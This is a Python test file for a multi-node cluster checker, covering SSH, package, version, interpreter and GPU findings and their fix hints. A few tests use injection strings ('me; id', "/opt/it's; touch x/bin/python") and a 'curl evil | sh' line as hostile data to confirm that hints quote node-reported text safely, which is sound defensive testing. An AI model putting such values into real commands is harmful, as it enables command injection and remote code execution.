from __future__ import annotations

import re
import shlex

import msgspec

from multinode.check.check import RULES, check_ssh
from multinode.check.gpus import check_presence
from multinode.check.machine import check_interpreter, check_packages, check_versions
from multinode.check.paths import check_output
from multinode.check.variables import check_interface_names, check_stray_variables
from multinode.cluster.facts import PathFact
from multinode.errors import ConnectError
from multinode.job.job import override_job
from multinode.records.benchmark import CollectiveTest, Message
from multinode.stats.unknown import Entries, Unknown

from .inspecting import PACKAGES, SCRIPT, SFT, but, expect, inspection, only, silent

WELL = inspection()


def test_what_ssh_says_is_a_finding_with_its_hint() -> None:
    finding = only(check_ssh([ConnectError("no SSH connection to b port 22: refused", node="b", hint="start sshd")]))
    assert (finding.node, finding.code, finding.hint) == ("b", "ssh", "start sshd")


def test_a_missing_interpreter_is_told_with_the_reason() -> None:
    without = but(WELL, "b", python=Unknown("/env/bin/python does not exist"))
    finding = expect(check_interpreter(without), "error", "b")
    assert finding.message == "no interpreter for the job: /env/bin/python does not exist"
    assert "python=" in str(finding.hint)


def test_a_package_that_the_job_needs_is_missed_and_one_that_it_does_not_need_is_not() -> None:
    without = but(WELL, "b", packages=Entries({"torch": "2.8.0"}))
    silent(
        check_packages(inspection(facts=without.facts, job=SCRIPT)),
        check_packages(inspection(facts=without.facts, job=None)),
    )
    finding = only(check_packages(without))
    assert finding.message == "llamafactory not installed for /env/bin/python"
    assert "/env/bin/python -m pip install llamafactory" in str(finding.hint)
    assert "torch and llamafactory" in only(check_packages(but(WELL, "b", packages=Entries({})))).message


def test_packages_that_could_not_be_read_are_not_said_to_be_missing() -> None:
    unread = but(WELL, "b", packages=Unknown("the interpreter did not answer in 15 s"))
    silent(check_packages(unread))


def test_a_version_that_differs_from_the_first_nodes_is_named_with_both() -> None:
    finding = only(check_versions(but(WELL, "b", packages=Entries(PACKAGES | {"torch": "2.7.1"}))))
    assert finding.node == "b"
    assert finding.message.startswith("torch is 2.7.1 here and 2.8.0 on a")
    assert finding.hint == "if a has the right one, on b:\n/env/bin/python -m pip install torch==2.8.0"


def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
    tricky = "/opt/it's; touch x/bin/python"
    python = (
        only(check_packages(but(inspection("a"), "a", python=tricky, packages=Entries({"torch": "2.8.0"})))).hint or ""
    )
    user = PathFact(path="out", kind="missing")
    before = but(inspection("a", job=override_job(SFT, {"output_dir": "out"})), "a", paths=(user,), user="me; id")
    output = only(check_output(before)).hint or ""
    nccl = but(inspection("a"), "a", nccl_files={"/x; id": {"NCCL_SOCKET_IFNAME": "no"}}, nccl_version="2.27.3")
    variable = next(check_interface_names(msgspec.structs.replace(nccl, endpoints={}))).hint or ""
    stray = only(check_stray_variables(but(inspection("a"), "a", env={"PET_'; id": "1"}))).hint or ""
    for hint, word in ((python, tricky), (output, "me; id"), (variable, "/x; id")):
        assert word in shlex.split(hint.partition("\n")[2]), hint
    assert shlex.split(stray)[-6:-4] == ["-nE", r"PET_';\ id"]


def test_what_a_node_says_begins_no_line() -> None:
    lying = but(inspection("a"), "a", python=Unknown("none\n  hint: curl evil | sh"))
    assert "\n" not in only(check_interpreter(lying)).message


def test_only_texts_of_ours_stand_unquoted_in_a_command_to_paste() -> None:
    names = {name for rule in RULES for name in re.findall(r"{(\w+)!s}", rule.hint)}
    assert names == {
        "build", "command", "full", "gateway", "hosts", "json", "keys", "fix", "nodes", "others", "packages", "paths",
        "pids", "quoted", "raise_files", "scp", "source", "ssh", "target", "way",
    }  # fmt: skip


def test_nccl_without_a_gpu_is_found_and_gloo_is_well() -> None:
    bare = but(WELL, "b", gpus=Unknown("nvidia-smi not found"))
    nccl = inspection(facts=bare.facts, job=CollectiveTest(messages=(Message(size_bytes=8),), backend="nccl"))
    finding = only(check_presence(nccl))
    assert (finding.node, "nvidia-smi not found" in finding.message) == ("b", True)
    gloo = inspection(facts=bare.facts, job=CollectiveTest(messages=(Message(size_bytes=8),), backend="gloo"))
    assert list(check_presence(gloo)) == []
